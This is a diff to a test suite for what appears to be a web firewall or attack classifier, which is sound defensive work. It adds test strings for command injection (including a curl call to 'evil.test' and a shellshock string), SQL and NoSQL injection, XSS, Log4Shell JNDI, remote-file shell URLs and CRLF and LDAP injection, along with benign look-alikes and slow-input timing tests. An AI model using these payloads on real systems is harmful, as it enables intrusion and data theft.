@@ -44,6 +44,26 @@ describe('what is an attack', () => {
     ['command', '8.8.8.8; cat /etc/hosts'],
     ['command', 'x | whoami'],
     ['command', '$(curl -s http://evil.test)'],
+    ['command', ";c'a't /etc/hosts"],
+    ['command', 'for /f %i in (a,b) do echo %i'],
+    ['command', '() { :;}; echo hacked'],
+    ['sql', "x' || (select extractvalue(1, 2))"],
+    ['sql', '{"$ne": null}'],
+    ['sql', 'un/**/ion sel/**/ect'],
+    ['script', 'ja&Tab;vascript:alert(1)'],
+    ['script', '" onmouseover="x'],
+    ['script', 'document/**/.cookie'],
+    ['script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">'],
+    ['code', '<?php phpinfo(); ?>'],
+    ['code', 'O:8:"stdClass":1:{s:1:"a";i:2;}'],
+    ['code', '${jndi:ldap://x.test/a}'],
+    ['code', 'java.lang.Runtime'],
+    ['code', "require('child_process')"],
+    ['remote-file', 'http://192.0.2.7/shell.txt'],
+    ['remote-file', 'ftp://files.test/x'],
+    ['protocol', 'x%0d%0aSet-Cookie: a=b'],
+    ['protocol', 'x\r\nGET /admin HTTP/1.1\r\n'],
+    ['protocol', '*)(uid=*))(|(uid=*'],
   ])('%s: %s', (family, text) => {
     expect(families(text)).toContain(family);
   });
@@ -63,6 +83,17 @@ describe('what is none', () => {
     'https://shop.test/?a=1&b=2#top',
     'SELECT your favourite colour',
     'my script for the play',
+    'session expired, sleep well',
+    'Student Union: select committee members from the list',
+    'insert into slot A; update the label',
+    'the cat sat on the mat; the dog ran',
+    'ping me at 5; ls is short for lens',
+    'eval the exam (written)',
+    'java is an island; python is a snake',
+    'cost: $5 (five)',
+    'if (x) { return y; }',
+    'benchmark results: 10 (ten)',
+    'two lines\r\nof text: and more',
   ])('%s', (text) => {
     expect([...families(text)]).toEqual([]);
   });
@@ -75,9 +106,38 @@ describe('what is none', () => {
 });
 
 it('takes no longer for what is made to take long', () => {
-  const nasty = ["'".repeat(100_000), '<a '.repeat(50_000), 'select '.repeat(20_000), '%25'.repeat(50_000)];
+  const pieces = [
+    "'",
+    '<a ',
+    'select ',
+    '%25',
+    '(',
+    '$(',
+    '{',
+    '{{',
+    "' or ",
+    'for %a',
+    'if not ',
+    '../',
+    'a b ',
+    '.',
+    ')(',
+  ];
+  const more = [
+    'select a from ',
+    'on',
+    '\r\n',
+    '[',
+    '+![',
+    '/*',
+    'java.',
+    'case when ',
+    '<!doctype',
+    '$a[',
+    'declare @a',
+  ];
   const began = performance.now();
-  for (const text of nasty) families(text, 2);
+  for (const piece of [...pieces, ...more]) families(piece.repeat(Math.ceil(20_000 / piece.length)), 2);
   expect(performance.now() - began).toBeLessThan(15_000);
 });
 
@@ -98,6 +158,11 @@ describe('bodies', () => {
       ['file f', '../x'],
     ]);
     expect(texts('image/png', '<script>')).toEqual([]);
+    expect(texts('text/xml', '<a b="x">y<c d=\'z\'/></a>')).toEqual([
+      ['body', 'x'],
+      ['body', 'y'],
+      ['body', 'z'],
+    ]);
   });
 
   it('are suspect when they are not, but not when only cut short', () => {
@@ -183,6 +248,13 @@ describe('the firewall', () => {
     expect((await get(port, '/dump.SQL')).status).toBe(403);
     expect((await get(port, '/?a=%00')).status).toBe(403);
     expect((await get(port, '/style.css', { 'user-agent': 'Mozilla/5.0' })).status).toBe(200);
+    expect((await get(port, '/', { proxy: 'http://evil.test' })).status).toBe(403);
+    expect((await get(port, '/', { range: 'bytes=9-1' })).status).toBe(403);
+    expect((await get(port, '/?a=%c0%af')).status).toBe(403);
+    expect(
+      (await get(port, '/', { ...form, 'content-type': `${form['content-type']}; charset=utf-7` })).status,
+    ).toBe(403);
+    expect((await get(port, '/?%0d%0aX')).status).toBe(403);
     const json = { 'content-type': 'application/json' };
     expect((await get(port, '/', json, 'POST', '{"a":')).status).toBe(403);
   });
